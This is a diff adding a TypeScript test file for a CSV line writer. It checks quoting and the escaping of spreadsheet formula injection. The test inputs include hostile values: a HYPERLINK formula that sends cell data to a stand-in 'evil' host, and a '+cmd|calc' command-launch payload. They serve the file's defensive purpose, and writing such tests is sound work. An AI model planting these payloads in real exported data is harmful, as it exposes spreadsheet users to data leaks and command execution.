@@ -1,0 +1,53 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { csvLine } from '../../../src/core/rules/csv.ts';
+
+test('a line has comma-separated cells and ends with CRLF', () => {
+  expect(csvLine([1, 'Helles', null, true, -2.5])).toBe('1,Helles,,true,-2.5\r\n');
+  expect(csvLine(['a "big" one', 'x,y', 'two\nlines', ' blank '])).toBe(
+    '"a ""big"" one","x,y","two\nlines"," blank "\r\n',
+  );
+});
+
+test.each([
+  '=HYPERLINK("http://evil/?"&A1)',
+  '+1+cmd|calc',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '  =1',
+  '＝1',
+])('escapes %j, which a spreadsheet would run as a formula', (name) => {
+  const line = csvLine([name]);
+  expect(/^"?'/.test(line)).toBe(true);
+  expect(readCsv(line)).toEqual([[`'${name}`]]);
+});
+
+test('property: a line parses back to the same name, and no cell starts a formula', () => {
+  fc.assert(
+    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (names) => {
+      const [cells] = readCsv(csvLine([...names, 'end']));
+      expect(cells!.map((cell, i) => (cell === `'${names[i]}` ? names[i] : cell))).toEqual([...names, 'end']);
+      for (const cell of cells!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }),
+    { numRuns: 500, seed: 7 },
+  );
+});
+
+/** An RFC 4180 parser written for this test. */
+function readCsv(text: string): string[][] {
+  const lines: string[][] = [[]];
+  let rest = text;
+  while (rest !== '') {
+    const quoted = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest);
+    const plain = /^([^",\r\n]*)(,|\r\n)/.exec(rest);
+    const found = quoted ?? plain;
+    if (found === null) throw new Error(`not CSV: ${JSON.stringify(rest)}`);
+    lines.at(-1)!.push(quoted === null ? found[1]! : found[1]!.replaceAll('""', '"'));
+    rest = rest.slice(found[0].length);
+    if (found[2] === '\r\n' && rest !== '') lines.push([]);
+  }
+  return lines;
+}
